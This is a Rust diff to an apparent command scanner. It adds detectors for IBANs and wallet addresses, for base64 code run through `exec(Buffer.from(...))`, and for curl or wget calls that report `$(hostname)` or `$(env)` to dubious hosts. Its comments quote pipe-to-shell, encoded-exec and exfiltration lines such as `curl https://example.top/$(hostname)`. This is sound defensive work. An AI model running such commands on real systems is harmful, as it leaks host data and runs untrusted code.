@@ -51,7 +51,53 @@ pub(super) fn commands(text: &str) -> Vec<(Command, usize)> {
     secrets(&lower, &mut found);
     outflows(&lower, &mut found);
     sources(&lower, &mut found);
+    payees(&lower, &mut found);
     found
+}
+
+/// An account that money is to go to: an IBAN, or the address of a wallet.
+fn payees(lower: &str, found: &mut Vec<(Command, usize)>) {
+    let at_of = |word: &str| word.as_ptr() as usize - lower.as_ptr() as usize;
+    let words: Vec<&str> = lower.split_whitespace().map(trimmed).collect();
+    let is_hex = |text: &str| text.bytes().all(|byte| byte.is_ascii_hexdigit());
+    for (place, word) in words.iter().enumerate() {
+        let is_wallet = word
+            .strip_prefix("0x")
+            .is_some_and(|rest| rest.len() == 40 && is_hex(rest))
+            || word.len() >= 30
+                && word.starts_with("bc1")
+                && word.bytes().all(|byte| byte.is_ascii_alphanumeric());
+        if is_wallet || is_iban(&words[place..]) {
+            found.push((Command::ForeignSource, at_of(word)));
+        }
+    }
+}
+
+fn trimmed(word: &str) -> &str {
+    word.trim_matches(|character: char| !character.is_alphanumeric())
+}
+
+/// Whether words begin with an IBAN, in one word or in groups of four: a country, two check digits, 11 to 30 more.
+fn is_iban(words: &[&str]) -> bool {
+    let bytes = words.first().map_or(&[][..], |word| word.as_bytes());
+    let begins = bytes.len() >= 4
+        && bytes[..2].iter().all(u8::is_ascii_lowercase)
+        && bytes[2..4].iter().all(u8::is_ascii_digit);
+    if !begins {
+        return false;
+    }
+    let has_digits = |word: &str| {
+        word.bytes().all(|byte| byte.is_ascii_alphanumeric())
+            && word.bytes().any(|byte| byte.is_ascii_digit())
+    };
+    if bytes.len() > 4 {
+        return (15..=34).contains(&bytes.len())
+            && bytes[4..].iter().filter(|byte| byte.is_ascii_digit()).count() >= 10;
+    }
+    let groups = words[1..]
+        .iter()
+        .take_while(|word| word.len() == 4 && has_digits(word));
+    groups.count() >= 3
 }
 
 /// A download passed to an interpreter: `curl … | sh`, `bash <(curl …)`, `eval "$(curl …)"`, `curl -o x … && sh x`.
@@ -317,6 +363,17 @@ fn remote_code(lower: &str, found: &mut Vec<(Command, usize)>) {
 /// Encoded text that is decoded and run: `echo … | base64 -d | sh`.
 fn encoded_code(lower: &str, found: &mut Vec<(Command, usize)>) {
     let names_powershell = lower.contains("powershell");
+    // `exec(Buffer.from("…", "base64"))`
+    if let Some(at) = lower.find("buffer.from(") {
+        let line = line_after(&lower[at..], MAX_COMMAND);
+        let before = line_before(lower, at);
+        let runs = ["exec(", "execsync(", "eval(", "spawn(", "function("]
+            .iter()
+            .any(|runner| before.ends_with(runner));
+        if runs && line.contains("base64") {
+            found.push((Command::Download, at));
+        }
+    }
     for decoder in [
         "base64 -d",
         "base64 --decode",
@@ -457,8 +514,18 @@ fn outflows(lower: &str, found: &mut Vec<(Command, usize)>) {
         // A host of the organization is none to hide from.
         let hosts: Vec<Host> = addresses(line).map(|(host, _)| host).collect();
         let stays = !hosts.is_empty() && hosts.iter().all(|host| *host == Host::Internal);
-        let to_program =
-            !stays && (piped || secret) && (sends || is_pipe) || is_copied && !stays || is_looked_up;
+        // "curl https://example.top/$(hostname)"
+        let is_reported = matches!(words[program], "curl" | "wget" | "iwr" | "irm")
+            && hosts
+                .iter()
+                .any(|host| matches!(host, Host::Dubious | Host::Address))
+            && ["$(hostname", "$(whoami", "$(id", "$(uname", "$(env", "$(cat"]
+                .iter()
+                .any(|inner| line.contains(&format!("/{inner}")) || line.contains(&format!("={inner}")));
+        let to_program = !stays && (piped || secret) && (sends || is_pipe)
+            || is_copied && !stays
+            || is_looked_up
+            || is_reported;
         // A header for authorization is what a secret is for.
         if to_program && !line.contains("authorization") {
             let at = line.find(words[program]).unwrap_or(0);
